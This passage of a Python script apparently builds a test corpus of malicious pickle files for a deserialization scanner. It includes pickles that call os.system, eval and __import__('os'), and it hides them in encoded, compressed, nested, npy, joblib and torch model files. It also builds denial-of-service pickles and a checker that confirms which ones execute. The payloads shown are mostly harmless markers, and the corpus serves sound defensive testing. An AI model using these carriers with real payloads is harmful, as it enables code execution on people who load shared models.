    add("build_dict_made_by_call.pkl", P4 + stack_global("__main__", "M") + b")\x81" + stack_global("builtins", "dict") + pair + b"\x85Rb" + text("x") + b"b.")
    add("typing_of_text.pkl", P4 + stack_global("operator", "getitem") + stack_global("typing", "List") + text("__import__('os')") + b"\x86R.")
    add("iterator_of_function.pkl", P4 + stack_global("builtins", "iter") + stack_global("os", "getcwd") + b"N\x86R.")
    add("reduce_of_function.pkl", P4 + stack_global("functools", "reduce") + stack_global("vendor", "f") + b"(K\x01K\x02t\x86R.")
    add("attributes_of_class.pkl", call("operator", "attrgetter", "__class__.__base__"))


# ---- pickles as data of pickles, in what programs decode them from
def nested():
    inner = PLAIN
    text_of = {
        "base64": base64.b64encode(inner).decode(),
        "base64_urlsafe": base64.urlsafe_b64encode(inner).decode().rstrip("="),
        "base64_lines": base64.encodebytes(inner * 3).decode(),
        "base64_proto0": base64.b64encode(PROTO0).decode(),
        "base64_twice": base64.b64encode(base64.b64encode(inner)).decode(),
        "base64_zlib": base64.b64encode(zlib.compress(inner)).decode(),
        "base64_zlib_9": base64.b64encode(zlib.compress(inner, 9)).decode(),
        "base64_gzip": base64.b64encode(gzip.compress(inner, mtime=0)).decode(),
        "base64_bz2": base64.b64encode(bz2.compress(inner)).decode(),
        "base64_xz": base64.b64encode(lzma.compress(inner)).decode(),
        "hex": inner.hex(),
        "hex_upper": inner.hex().upper(),
        "hex_proto0": PROTO0.hex(),
        "hex_zlib": zlib.compress(inner).hex(),
        "latin1": inner.decode("latin-1"),
        "latin1_zlib": zlib.compress(inner).decode("latin-1"),
        "proto0": PROTO0.decode(),
    }
    for name, value in text_of.items():
        add(f"nested_{name}.pkl", pickle.dumps({"blob": value}, 4))
    bytes_of = {
        "bytes": inner,
        "bytes_proto0": PROTO0,
        "bytes_proto1": files["reduce_p1.pkl"],
        "bytes_list": b"]" + CALL + b"a.",
        "bytes_zlib": zlib.compress(inner),
        "bytes_gzip": gzip.compress(inner, mtime=0),
        "bytes_bz2": bz2.compress(inner),
        "bytes_xz": lzma.compress(inner),
        "bytes_lzma": lzma.compress(inner, lzma.FORMAT_ALONE),
        "bytes_base64": base64.b64encode(inner),
        "bytes_hex": inner.hex().encode(),
    }
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr(zipfile.ZipInfo("archive/data.pkl"), inner)
    bytes_of["bytes_zip"] = archive.getvalue()
    for name, value in bytes_of.items():
        add(f"nested_{name}.pkl", pickle.dumps({"blob": value}, 4))
        if name in ("bytes", "bytes_zlib", "bytes_proto0"):
            for protocol in (0, 2):
                add(f"nested_{name}_p{protocol}.pkl", pickle.dumps({"blob": value}, protocol))
            add(f"nested_{name}_bytearray.pkl", pickle.dumps({"blob": bytearray(value)}, 5))
    add("nested_text_p0.pkl", pickle.dumps({"blob": text_of["base64"]}, 0))
    add("nested_latin1_p0.pkl", pickle.dumps({"blob": text_of["latin1"]}, 0))
    add(
        "nested_python2_string.pkl",
        b"(dp0\nS'blob'\np1\nS'" + "".join(f"\\x{one:02x}" for one in inner).encode() + b"'\np2\ns.",
    )
    twice = pickle.dumps({"a": pickle.dumps({"b": inner}, 4)}, 4)
    add("nested_twice.pkl", twice)
    add("nested_five_times.pkl", pickle.dumps(pickle.dumps(pickle.dumps(pickle.dumps(twice, 4), 4), 4), 4))
    add("nested_in_loads.pkl", call("pickle", "loads", inner), True)
    add("nested_in_torch_storage.pkl", P2 + named("torch.storage", "_load_from_bytes") + data(inner) + b"\x85R.")


# ---- cheap to write, dear to load
def costs():
    add("memo_index_2_31.pkl", b"]p2147483647\n.")
    add("memo_index_2_28.pkl", P2 + b"Nr\xff\xff\xff\x0f.")
    add("length_2_62.pkl", P4 + b"\x8e" + struct.pack("<Q", 1 << 62) + b"x.")
    add("digits_5000.pkl", b"L" + b"9" * 5000 + b"L\n.")
    add("hash_exponential.pkl", P2 + b"}" + b")" + b"2\x86" * 60 + b"Ns.")
    add("set_exponential.pkl", P4 + b"\x8f(" + b")" + b"2\x86" * 60 + b"\x90.")
    # What harmless callables go over without end, or work out.
    made = lambda module, name, given: stack_global(module, name) + b"(" + given + b"tR"
    endless = made("itertools", "count", b"")
    add("list_of_count.pkl", P4 + made("builtins", "list", endless) + b".")
    add("deque_of_repeat.pkl", P4 + made("collections", "deque", made("itertools", "repeat", b"K\x01")) + b".")
    add("set_of_long_range.pkl", P4 + made("builtins", "set", made("builtins", "range", b"\x8a\x06\0\0\0\0\0\x10")) + b".")
    add("list_of_permutations.pkl", P4 + made("builtins", "list", made("itertools", "permutations", made("builtins", "range", b"K\x20"))) + b".")
    add("list_of_network.pkl", P4 + made("builtins", "list", made("ipaddress", "ip_network", text("::/0"))) + b".")
    add("bytes_of_size.pkl", P4 + made("builtins", "bytes", b"\x8a\x06\0\0\0\0\0\x10") + b".")
    add("fraction_of_exponent.pkl", P4 + made("fractions", "Fraction", text("1e999999999")) + b".")
    add("int_of_exponent.pkl", P4 + made("builtins", "int", made("decimal", "Decimal", text("1E+999999999"))) + b".")


# ---- names that dill and NumPy give harmless objects, with others
def wrappers():
    add("dill_type_code.pkl", P4 + stack_global("dill._dill", "_load_type") + text("CodeType") + b"\x85R)R.")
    add("dill_array_system.pkl", P4 + stack_global("dill._dill", "_create_array") + b"(" + named("os", "system") + TUPLE + b"NtR.")
    add("memmap_writes.pkl", call("numpy", "memmap", "/tmp/surety-was-here", "uint8", "w+"))
    add("layer_of_saved_model.pkl", call("keras.src.export.tfsm_layer", "TFSMLayer", "evil"))


# ---- joblib and NumPy as carriers
def carriers():
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + PLAIN
    add("objects.npy", npy)
    add("objects_v3.npy", b"\x93NUMPY\x03\x00" + struct.pack("<I", len(header)) + header + PROTO0)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr(zipfile.ZipInfo("a.npy"), npy)
    add("objects.npz", archive.getvalue())
    for name, packed in {
        "gz": gzip.compress(PLAIN, mtime=0),
        "z": zlib.compress(PLAIN),
        "bz2": bz2.compress(PLAIN),
        "xz": lzma.compress(PLAIN),
        "lzma": lzma.compress(PLAIN, lzma.FORMAT_ALONE),
    }.items():
        add(f"joblib.{name}.joblib", packed)
    wrapper = (
        stack_global("joblib.numpy_pickle", "NumpyArrayWrapper")
        + b")\x81}("
        + text("subclass")
        + stack_global("numpy", "ndarray")
    )
    wrapper += (
        text("shape")
        + b"K\x01\x85"
        + text("order")
        + text("C")
        + text("dtype")
        + stack_global("numpy", "dtype")
        + text("%s")
        + b"\x89\x88\x87R"
        + text("allow_mmap")
        + b"\x88ub"
    )
    objects = wrapper.replace(text("%s"), text("O8"))
    add("joblib_array_of_objects.joblib", P4 + objects + PLAIN + b".")
    numbers = wrapper.replace(text("%s"), text("f8"))
    add("joblib_behind_array.joblib", P4 + numbers + b"\0" * 8 + b"0" + CALL + b".")
    add("joblib_array_is_pickle.joblib", P4 + wrapper.replace(text("%s"), text("S64")) + PROTO0.ljust(64, b"N") + b".")
    # torch before 1.6: magic number, protocol version, system information, the object, keys of storages
    legacy = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    add("torch_legacy.pt", legacy + P2 + CALL + b"." + pickle.dumps([], 2))
    add(
        "torch_legacy_in_system_information.pt",
        legacy[: -len(pickle.dumps({"little_endian": True}, 2))] + P2 + CALL + b"." + P2 + b"}." + pickle.dumps([], 2),
    )
    add(
        "torch_legacy_magic_computed.pt",
        P2
        + named("builtins", "eval")
        + text("0x1950A86A20F9469CFC6C")
        + b"\x85R."
        + pickle.dumps(1001, 2)
        + P2
        + b"}.}."
        + pickle.dumps([], 2),
    )
    add(
        "torch_legacy_source.pt",
        legacy
        + P2
        + b"("
        + text("module")
        + named("__main__", "Net")
        + text("net.py")
        + text("import os; os.system('true')")
        + b"tQ"
        + CALL
        + b"\x86."
        + pickle.dumps([], 2),
    )
    add("torch_legacy_key_list.pt", legacy + P2 + b"}." + P2 + b"]" + CALL + b"a.")
    for name, member in {"data.pkl": PLAIN, "data_proto0": PROTO0}.items():
        archive = io.BytesIO()
        with zipfile.ZipFile(archive, "w") as out:
            out.writestr(zipfile.ZipInfo("archive/data.pkl"), member if name == "data.pkl" else P2 + b"}.")
            out.writestr(zipfile.ZipInfo("archive/version"), b"3\n")
            out.writestr(zipfile.ZipInfo("archive/notes.txt"), member if name != "data.pkl" else b"")
        add(f"torch_{name}.pt", archive.getvalue())


def build():
    for part in (opcodes, spelling, memo, streams, effects, gadgets, through_allowed, nested, costs, wrappers, carriers):
        part()
    return files


def check():
    """Loads each file of RUNS in a child and sees whether the word comes out."""
    wrong = []
    loader = "import sys, pickle; pickle.load(sys.stdin.buffer)"
    for name in sorted(RUNS):
        done = subprocess.run(
            [sys.executable, "-I", "-c", loader],
            input=files[name],
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            timeout=20,
        )
        if WORD.encode() not in done.stdout:
            wrong.append(name)
    print(f"{len(RUNS) - len(wrong)} of {len(RUNS)} print the word", *wrong, sep="\n  ")
    return 1 if wrong else 0


if __name__ == "__main__":
    build()
    sys.exit(check())
